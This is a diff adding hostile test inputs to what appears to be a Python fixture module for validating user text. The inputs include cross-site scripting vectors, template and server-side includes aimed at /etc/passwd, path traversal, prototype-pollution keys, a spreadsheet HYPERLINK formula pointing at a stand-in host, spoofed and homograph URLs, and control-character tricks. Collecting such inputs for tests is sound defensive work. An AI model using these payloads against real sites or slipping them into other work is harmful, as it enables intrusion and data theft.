@@ -27,6 +27,50 @@ HOSTILE = {
     "letters from right to left": "\u202eשלום",
     "a long line": "å" * 119,
 }
+# And words that pages, addresses and files might take for more, or find no room for; some are too long for most fields.
+MORE = {
+    "a template": "{{ cycler.__init__.__globals__ }}{% include '../../etc/passwd' %}{{ ord }}",
+    "a mark of a part": '[bare:eget] [/bare] @@rot@@ @@ord_meny@@ <!--#include virtual="/etc/passwd" -->',
+    "a script as an address": "javascript:window.truffet=1//",
+    "the end of a script": "</script></title></textarea></style><script>window.truffet=1</script>",
+    "the end of data": "]]><!--<script>--!><svg onload=window.truffet=1>",
+    "an attribute without quotes": "' onmouseover='window.truffet=1' autofocus onfocus=window.truffet=1 x='",
+    "entities": "&lt;img src=x onerror=window.truffet=1&gt; &amp;quot; &#x26;",
+    "a way out": "../../../../utenfor",
+    "a way out of another system": "..\\..\\utenfor\\C:utenfor.txt",
+    "a whole way": "/etc/passwd",
+    "what a program calls nothing": "null",
+    "what a program calls true": "true",
+    "no number": "NaN",
+    "what every object has": "constructor",
+    "what every object comes from": "__proto__",
+    "a long word": "W" * 119,
+    "a longer word": "W" * 299,
+    "the longest word": "W" * 1199,
+    "a long address": "https://example.org/" + "w" * 99,
+    "letters on letters": "a" + "\u0301\u0302\u0303" * 30,
+    "soft hyphens and joiners": "\u00ad\u200c\u200d" * 9 + "ord",
+    "a field of a sheet": "\t=1+1",
+    "a formula behind a blank": ' =HYPERLINK("https://ond.example/?"&A1)',
+    "a link of a text": "[trykk her](javascript:window.truffet=1) ![x](https://ond.example/x.png) <https://ond.example>",
+    "somebody elses site": "https://bank.example.org@ond.example/",
+    "letters that look alike": "https://ex\u0430mple.org/",
+    "a script as data": "data:text/html,<script>window.truffet=1</script>",
+    "a letter with more in it": "post@example.org?bcc=ond@ond.example&body=x",
+    "a number with more in it": "tel:22222222;phone-context=ond.example",
+}
+# What no file may hold, since an editor cannot see it: written out in quotes it is told, and so it is as it stands.
+FORBIDDEN = {
+    "a zero": "a\x00b",
+    "a bell and an escape": "\x07\x1b[31mrød\x1b]8;;https://ond.example\x1b\\",
+    "a delete": "a\x7fb",
+    "a next line": "a\x85b",
+    "a change of direction": "\u202etxt.exe",
+    "an isolate that stays open": "\u2067abc",
+    "nothing wide": "fore\u200bldre",
+    "a mark of order": "\ufeffforeldre",
+    "a line that is none": "a\u2028b",
+}
 
 # The fields of plain text that are no address, no number, no name of a value and no date.
 _PLAIN = ("paragraf", "fil", "av", "fra_hash")
